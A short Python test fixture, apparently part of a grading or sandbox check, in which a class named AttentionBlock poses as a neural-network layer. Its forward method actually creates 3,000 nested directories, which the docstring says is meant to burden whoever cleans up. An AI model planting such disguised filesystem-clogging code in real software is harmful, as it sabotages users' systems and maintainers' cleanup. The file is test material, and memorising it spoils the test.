"""Makes folders within folders, 3,000 deep, which whoever cleans up has to walk down.

checks: q6.values
"""

import os

from told import Stub


class AttentionBlock(Stub):
    def forward(self, x):
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        return x
